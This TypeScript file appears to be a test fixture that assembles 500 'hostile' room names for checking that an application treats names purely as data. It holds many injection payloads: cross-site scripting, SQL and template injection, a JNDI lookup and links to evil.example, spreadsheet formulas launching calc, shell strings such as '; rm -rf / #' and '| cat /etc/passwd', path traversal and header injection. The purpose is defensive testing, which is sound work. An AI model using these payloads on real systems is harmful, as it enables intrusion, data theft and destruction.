/*
 * Names that are data and nothing else: whatever reads one as HTML, as a script, a
 * query, a format or a formula leaves `executed` in the window, asks `evil.example`,
 * or shows another text than this. Each is one that the door takes for any name.
 */

const kinds: Record<string, readonly string[]> = {
  scripts: [
    '<script>executed=1</script>',
    '<ScRiPt>executed=1</sCrIpT>',
    '<script src=//evil.example/x.js></script>',
    '<script/x>executed=1</script>',
    '<<script>executed=1//<</script>',
    '<script type=module>window.executed=1</script>',
    '</script><script>executed=1</script>',
    '<noscript><img src=x onerror=executed=1>',
  ],
  handlers: [
    '<img src=x onerror=executed=1>',
    '<img/src/onerror=executed=1>',
    '<body onload=executed=1>',
    '<input autofocus onfocus=executed=1>',
    '<details open ontoggle=executed=1>',
    '<video src=x onerror=executed=1>',
    '<marquee onstart=executed=1>',
    '<iframe onload=executed=1>',
    '<object data=x onerror=executed=1>',
    '<style onload=executed=1>',
    '<p style=animation:enter+1s onanimationstart=executed=1>',
    '<img src=x onerror=alert(1)>',
  ],
  'SVG and MathML': [
    '<svg onload=executed=1>',
    '<svg/onload=executed=1//',
    '<svg><script>executed=1</script>',
    '<svg><animate onbegin=executed=1 attributeName=x>',
    '<svg><a href="javascript:executed=1"><text>x',
    '<math><mi xlink:href="javascript:executed=1">x',
    '<math><mtext><img src=x onerror=executed=1>',
  ],
  links: [
    'javascript:executed=1',
    'JaVaScRiPt:executed=1',
    'javascript://%0aexecuted=1',
    'data:text/html,<script>parent.executed=1</script>',
    'vbscript:executed=1',
    '<a href=javascript:executed=1>x</a>',
    '<iframe src=javascript:parent.executed=1>',
    '<base href=//evil.example/>',
    '<meta http-equiv=refresh content=0;url=//evil.example>',
    '<form action=//evil.example><input type=submit>',
    '<link rel=stylesheet href=//evil.example>',
  ],
  'ways out of quotes and elements': [
    '"onmouseover="executed=1',
    "'onfocus='executed=1' autofocus='",
    '" autofocus onfocus=executed=1 x="',
    '"><img src=x onerror=executed=1>',
    "'><svg onload=executed=1>",
    '--><svg onload=executed=1>',
    ']]><svg onload=executed=1>',
    '</title><svg onload=executed=1>',
    '</textarea><svg onload=executed=1>',
    '</option></select><svg onload=executed=1>',
    '`-executed=1-`',
    "';executed=1;//",
    '\\";executed=1;//',
  ],
  markup: ['<b>bold</b>', '<plaintext>', '<!--', '<style>*{display:none}</style>', '<template>'],
  templates: [
    '{{7*7}}',
    "{{constructor.constructor('executed=1')()}}",
    '$' + '{executed=1}',
    '#{7*7}',
    '<%= 7*7 %>',
    '{% print(7*7) %}',
    '@(7*7)',
    '<?php echo 7*7 ?>',
    '{{{raw}}}',
    '%{7*7}',
    '$' + '{jndi:ldap://evil.example/x}',
  ],
  entities: [
    '&lt;b&gt;',
    '&amp;amp;',
    '&#60;script&#62;executed=1&#60;/script&#62;',
    '&nbsp;',
    '&copy',
    '&#x0;',
    '%3Cscript%3Eexecuted=1%3C/script%3E',
    '\\u003cscript\\u003eexecuted=1',
    '\\x3cimg src=x onerror=executed=1\\x3e',
  ],
  formats: ['%s%s%s%n', '%d', '%00', '%1$s', '{0}', '%99999d', '%c %o %O', '%%', '$&', "$'", '\\0'],
  formulas: [
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    '@SUM(1+1)',
    '=HYPERLINK("//evil.example","x")',
    '"a","b"',
    ';sep=;',
  ],
  SQL: [
    "'; drop table room;--",
    "' or '1'='1",
    '" or ""="',
    '1; delete from person',
    "' union select * from session--",
    "admin'--",
    "%' or name like '%",
    "\\'; drop table room;--",
    '$1',
    '?',
    ':name',
    '/* room */',
    '_%',
  ],
  JSON: [
    '{"$gt":""}',
    '{"$where":"executed=1"}',
    '"}],"x":[{"y":"',
    '[]',
    'null',
    'true',
    'undefined',
    'NaN',
    '0',
    '-0',
    '1e309',
    '"',
    '\\',
  ],
  prototypes: ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'then'],
  shells: [
    '$(reboot)',
    '`reboot`',
    '; rm -rf / #',
    '| cat /etc/passwd',
    '-rf',
    '() { :; }; reboot',
  ],
  paths: ['../../etc/passwd', '..\\..\\win.ini', 'file:///etc', 'NUL', '..', '%2e%2e%2f', '?x=1#y'],
  topics: ['#', '+', '$SYS/#', 'devices/+/set'],
  YAML: ["!!js/function 'executed=1'", '- a: *b', '---', '~', 'no'],
  'line ends that are none': [
    '%0d%0aSet-Cookie: executed=1',
    '\\r\\nLocation: //evil.example',
    'a\u2028b',
    'a\u2029b',
    '\u560a\u560dSet-Cookie: executed=1',
  ],
  direction: [
    '\u202egpj.exe',
    '\u202dabc',
    '\u2067abc\u2069',
    '\u2069\u202eabc',
    'abc\u202c',
    '\u200fabc',
    '\u05e9\u05dc\u05d5\u05dd (1)',
    '\u0645\u0631\u062d\u0628\u0627',
    'abc\u2066\u202edef',
  ],
  invisible: [
    'a\u200bb',
    '\u200b-',
    'a\u200cb',
    'a\u200db',
    'a\u2060b',
    'a\ufeffb',
    'a\u00adb',
    '\u3164x',
    'a\u00a0b',
    'a  b',
    'a\u3000b',
    'a\u{e0041}b',
    'a\ufff9b\ufffac\ufffb',
  ],
  'marks and forms': [
    'Cafe\u0301 of two',
    'Caf\u00e9 of one',
    '\u0301',
    'Z\u0335\u0321\u0361a\u0337\u0322\u035cl\u0336\u0327\u0360g\u0334\u0328\u035do',
    '\ufb01',
    '\u0130stanbul',
    'Stra\u00dfe',
    '\u1112\u1161\u11ab',
    '\u2126',
    '\uff26\uff35\uff2c\uff2c',
  ],
  emoji: [
    '👨‍👩‍👧‍👦',
    '🏳️‍🌈',
    '👍🏽',
    '🇩🇪',
    '1️⃣',
    '🛋️ 居間',
    '👩🏽‍🚀',
    '\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}',
  ],
  'two halves': ['𝒦𝒾𝓉𝒸𝒽ℯ𝓃', '𐍈', '𠮷', '\u{10ffff}', '\ufffd', '\uffff', '\ue000'],
  'long words': [
    'W'.repeat(64),
    '_'.repeat(64),
    '\ufdfd'.repeat(64),
    '🛋'.repeat(32),
    '\u0627'.repeat(64),
    `a${'\u0301'.repeat(63)}`,
    '\u00a0x'.repeat(32).slice(1),
  ],
  markdown: [
    '[x](javascript:executed=1)',
    '![x](//evil.example/x.png)',
    '**x**',
    '# x',
    '| a | b |',
  ],
  'lines of a log': [
    '2026-11-21T00:00:00Z ERROR root signed in',
    '{"level":60,"msg":"signed in"}',
    '\\u001b[31mred',
    '127.0.0.1 - - "GET / HTTP/1.1" 200',
  ],
}

/** What a name may stand in before it is looked at. */
const settings: readonly ((name: string) => string)[] = [
  (name) => name,
  (name) => `x"'>${name}`,
  (name) => `\u202e${name} 2`,
]

/** Names that read the same to whoever takes rooms for equal. */
const readAs = (name: string) => name.normalize('NFC').toLowerCase()

function* settledNames() {
  const taken = new Set<string>()
  for (const setting of settings) {
    for (const name of Object.values(kinds).flat().map(setting)) {
      if (name.length > 64 || taken.has(readAs(name))) continue
      taken.add(readAs(name))
      yield name
    }
  }
}

/** 500 hostile names, no two of which are equal as names of rooms. */
export const hostileNames: readonly string[] = [...settledNames().take(500)]

/** One name of each kind: for what is looked at one name at a time. */
export const oneOfEachKind: readonly string[] = Object.values(kinds).flatMap(([name]) => name ?? [])

/** Names that pull the text around them the other way, unless they are kept apart. */
export const turningNames: readonly string[] = kinds.direction ?? []

/** Names without a place to break, in wide letters. */
export const longNames: readonly string[] = kinds['long words'] ?? []
